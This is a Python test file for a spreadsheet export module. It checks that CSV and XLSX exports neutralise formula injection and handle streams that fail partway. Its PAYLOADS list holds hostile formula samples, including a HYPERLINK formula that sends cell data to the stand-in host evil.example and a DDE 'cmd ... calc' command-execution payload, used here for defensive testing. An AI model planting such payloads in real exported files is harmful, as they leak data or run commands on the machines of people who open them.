"""Exports against formula injection and half-written files (issue 15)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from yanglao.core import sheets

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["张桂兰", "幸福路12号", "1-2号楼", "13812345678", "'quoted", ""]


def _xlsx(rows: list[list[Any]], header: list[str] | None = None, **kw: Any) -> bytes:
    buf = io.BytesIO()
    sheets.write_xlsx(buf, header or ["姓名", "住址", "金额"], rows, **kw)
    return buf.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_formula_like_text_is_a_quoted_string_cell(payload: str) -> None:
    data = _xlsx([["王", payload, 1]], header=["姓名", payload, "金额"])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in sheet_xml  # never a formula
    assert 'quotePrefix="1"' in styles  # Excel keeps it text even when the cell is edited
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows[0][1] == payload and rows[1][1] == payload  # the text itself is unchanged


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *[(p, "'" + p) for p in PAYLOADS],
        *[(h, h) for h in HARMLESS],
        (-12, "-12"),  # numbers stay numbers: a negative amount keeps its sign
        (Decimal("-12.50"), "-12.50"),
        (-0.5, "-0.5"),
        ("-12.50", "'-12.50"),  # text that looks like a negative number is still text
    ],
)
def test_csv_cells_are_neutralised(value: object, cell: str) -> None:
    lines = list(sheets.csv_lines(["列", "=标题"], [[value, "x"]]))
    rows = list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff"))))
    assert rows[0] == ["列", "'=标题"]
    assert rows[1][0] == cell


def test_bank_sheet_negative_amount_stays_numeric() -> None:
    data = _xlsx([["王", "-3号", Decimal("-12.50")]], number_formats={2: "0.00"})
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows[1][2] == -12.5 and rows[1][1] == "-3号"


def test_csv_round_trip_reads_back_the_original_text(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text("".join(sheets.csv_lines(["a"], [[p] for p in PAYLOADS + HARMLESS])))
    table = sheets.open_table(path, "export.csv")
    assert [r[0] if r else "" for r in table.rows][1:] == PAYLOADS + HARMLESS


class Boom(RuntimeError):
    pass


def _failing_rows(good: int) -> Iterator[list[str]]:
    for i in range(good):
        yield [f"行{i}", "x"]
    raise Boom("database went away")


def test_csv_stream_failing_half_way_ends_with_a_marker_and_raises() -> None:
    out: list[str] = []
    with pytest.raises(Boom):
        for chunk in sheets.csv_lines(["姓名", "住址"], _failing_rows(50)):
            out.append(chunk)
    body = "".join(out)
    assert body.count("\r\n") >= 51 and "行49" in body
    assert body.rstrip().endswith(sheets.STREAM_FAILED_MARKER)


def test_xlsx_export_failing_half_way_raises_before_any_response() -> None:
    with pytest.raises(Boom):
        sheets.xlsx_response("x.xlsx", ["姓名", "住址"], _failing_rows(50))
